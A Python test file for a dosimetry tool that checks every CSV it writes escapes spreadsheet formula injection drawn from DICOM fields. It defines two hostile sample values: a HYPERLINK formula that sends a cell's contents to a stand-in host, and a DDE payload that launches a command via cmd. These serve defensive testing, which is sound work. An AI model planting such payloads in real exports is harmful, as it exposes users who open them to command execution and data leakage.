"""CSV formula injection (issue 21 item 10): DICOM strings in every CSV the tool writes are
neutralised, numbers untouched, and the value recoverable."""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pydicom
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dosimetry.cli.main import main
from dosimetry.io.csv_cells import FORMULA_TRIGGERS, neutralise_cell, restore_cell

REPO = Path(__file__).resolve().parents[1]
SAMPLE_PATIENT = REPO / "sample_data" / "patient01"
EVIL_ID = '=HYPERLINK("http://example.invalid/x?"&A1,"open")'
EVIL_ROI = "+cmd|' /C calc'!A0"
RENAMED_ROI = "Mandible"


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_no_formula(path: Path) -> list[str]:
    """Every cell of ``path``: none starts with a formula trigger unless it is a number."""
    cells = _cells(path)
    dangerous = [c for c in cells if c.startswith(FORMULA_TRIGGERS) and not _is_number(c)]
    assert dangerous == [], f"{path}: cells a spreadsheet would run: {dangerous[:3]}"
    return cells


@given(st.text())
def test_neutralise_then_restore_round_trips(text: str) -> None:
    """Oracle: the OWASP CSV-injection rule (no text cell may start with = + - @ tab CR) and
    round-tripping by construction: restore(neutralise(s)) == s for any string."""
    cell = neutralise_cell(text)
    assert restore_cell(cell) == text
    assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell)


def test_numbers_are_never_changed() -> None:
    """Oracle: Python's float() reading of the cell: numbers, negative ones included, stay numbers."""
    for value in (-1.5, -3, 0.0, "-1.5", "-3e-05", "+2", "-inf"):
        assert neutralise_cell(value) == value
    assert neutralise_cell("-1.5 Gy") == "'-1.5 Gy"
    assert neutralise_cell(EVIL_ID) == "'" + EVIL_ID


def test_no_csv_writer_bypasses_the_neutralising_one() -> None:
    """Oracle: the source text. Every CSV written by dosimetry/ and pipelines/ goes through
    dosimetry.io.csv_cells.csv_writer (the one place allowed to call csv.writer)."""
    offenders = []
    for folder in ("dosimetry", "pipelines"):
        for path in (REPO / folder).rglob("*.py"):
            if path.name == "csv_cells.py":
                continue
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(|\.to_csv\(", text):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []


def _hostile_patient(folder: Path) -> Path:
    shutil.copytree(SAMPLE_PATIENT, folder)
    for path in folder.rglob("*.dcm"):
        ds = pydicom.dcmread(path)
        ds.PatientID = EVIL_ID
        if ds.Modality == "RTSTRUCT":
            for item in ds.StructureSetROISequence:
                if item.ROIName == RENAMED_ROI:
                    item.ROIName = EVIL_ROI
        ds.save_as(path)
    return folder


@pytest.mark.slow
def test_every_csv_of_analyze_dvh_and_batch_is_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Oracle: the OWASP rule applied to every cell of every CSV file the commands wrote (found by
    globbing their output folders), and the escaped PatientID / ROI name found verbatim with one
    leading quote; the batch's metrics.csv read back through read_metrics_csv gives the originals."""
    from pipelines.csv_out import read_metrics_csv

    root = tmp_path / "root"
    patient = _hostile_patient(root / "p1")
    written: list[Path] = []

    out = tmp_path / "analyze"
    assert main(["analyze", str(patient), "--out", str(out)]) == 0, capsys.readouterr().err
    written += sorted(out.rglob("*.csv"))
    assert {p.name for p in written} >= {"dvh.csv", "metrics.csv"}

    current = patient / "current"
    dvh_csv = tmp_path / "dvh_cli.csv"
    code = main(["dvh", "--dose", str(next(current.glob("RD_*.dcm"))), "--structures", str(next(current.glob("RS_*.dcm"))),
                 "--csv", str(dvh_csv)])
    assert code == 0, capsys.readouterr().err
    written.append(dvh_csv)

    batch_out = tmp_path / "batch"
    code = main(["batch", str(root), "--out", str(batch_out), "--workers", "0", "--progress", "off",
                 "--analysis", "pipelines.default_analysis:dvh_analysis"])
    assert code == 0, capsys.readouterr().err
    batch_csvs = sorted(batch_out.rglob("*.csv"))
    assert any(p.name == "metrics.csv" for p in batch_csvs) and any(p.name == "dvh_metrics.csv" for p in batch_csvs)
    written += batch_csvs

    seen = set()
    for path in written:
        cells = _assert_no_formula(path)
        seen.update(c for c in cells if c in ("'" + EVIL_ID, "'" + EVIL_ROI))
    assert seen == {"'" + EVIL_ID, "'" + EVIL_ROI}
    rows = read_metrics_csv(batch_out / "metrics.csv")
    assert {r["patient_id"] for r in rows} == {EVIL_ID} and EVIL_ROI in {r["roi"] for r in rows}
